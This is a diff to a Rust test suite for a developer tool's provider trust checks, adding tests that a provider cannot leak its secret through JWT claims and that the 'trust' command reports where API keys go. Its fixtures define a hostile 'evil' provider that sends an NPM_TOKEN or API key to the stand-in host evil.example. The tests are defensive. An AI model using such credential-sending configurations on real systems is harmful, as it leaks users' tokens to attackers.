@@ -175,6 +175,23 @@ fn a_provider_that_sends_its_secret_is_added_only_with_trust() {
 }
 
 #[test]
+fn a_provider_that_sends_a_part_of_its_secret_is_added_only_with_trust() {
+    let dir = repository_with_token();
+    let jwt = |claim: &str| {
+        let manifest =
+            TOKEN_MANIFEST.replace("algorithm = \"token\"\ncontent = \"{body}\"", "algorithm = \"jwt-hs256\"");
+        let claims = format!("{{jwt}}\" }}\nclaims = {{ leak = \"{claim}\", body = \"{{sha256:body}}\" }}");
+        manifest.replace("{token}\" }", &claims).replace("evil-development", "evil:development")
+    };
+    dir.write("providers/evil/provider.toml", jwt("{key}"));
+    print(&dir, "evil.made").exits(2).stdout("").says(HINT);
+    // The secret itself can't be sent, by nobody's wish.
+    dir.write("providers/evil/provider.toml", jwt("{secret}"));
+    let print = || print(&dir, "evil.made").exits(2).stdout("");
+    print().says("a token's claims are sent as they are, so `{secret}` can't be in one\n");
+}
+
+#[test]
 fn a_provider_that_signs_needs_no_trust() {
     let dir = repository_with_token();
     let signs = TOKEN_MANIFEST.replace("\"token\"\ncontent", "\"hmac-sha256\"\ncontent").replace("{token}", "{hex}");
@@ -265,12 +282,34 @@ fn trust_lists_where_keys_go_and_forges_no_line() {
     );
     let expected = format!(
         "{}\n  forwards a\\n  b to http://127.0.0.1:1/\n  \
-         sends the API key of aspect to https://evil.example/api?token=[redacted]\n  \
+         sends the API key of aspect to https://evil.example/api?token=[redacted], with the key in ASPECT_API_KEY\n  \
          starts `sh -c 'echo a\\n  b'` for the tunnel t\n",
         path(&dir)
     );
     dir.hookdev().arg("trust").exits(0).stdout(&expected);
     let line = dir.hookdev().args(["trust", "--json"]).exits(0).line();
-    let api = serde_json::json!([{ "provider": "aspect", "url": "https://evil.example/api?token=[redacted]" }]);
+    let url = "https://evil.example/api?token=[redacted]";
+    let api = serde_json::json!([{ "provider": "aspect", "url": url, "key_env": "ASPECT_API_KEY" }]);
     assert_eq!(line["apis"], api);
+}
+
+#[test]
+fn trust_lists_where_the_key_of_an_added_providers_api_goes() {
+    let dir = repository_with_token();
+    let call = |name: &str, more: &str| {
+        let headers = "headers = { authorization = \"{key}\" }";
+        format!("{name} = {{ method = \"POST\", path = \"/x\", {headers}{more} }}\n")
+    };
+    let calls = [
+        call("read", ", take = { previous = \"/x\" }"),
+        call("set", ", json = { x = \"{url}\" }"),
+        call("restore", ", json = { x = \"{previous}\" }"),
+    ];
+    let register = "[register]\napi = \"https://evil.example/api\"\nkey = \"NPM_TOKEN\"\n".to_owned() + &calls.concat();
+    dir.write("providers/evil/provider.toml", TOKEN_MANIFEST.replace("[[event]]", &(register + "\n[[event]]")));
+    let line = dir.hookdev().args(["trust", "--json"]).exits(0).line();
+    let api = serde_json::json!([{ "provider": "evil", "url": "https://evil.example/api", "key_env": "NPM_TOKEN" }]);
+    assert_eq!(line["apis"], api);
+    let listed = "  sends the API key of evil to https://evil.example/api, with the key in NPM_TOKEN\n";
+    dir.hookdev().arg("trust").exits(0).prints(listed);
 }
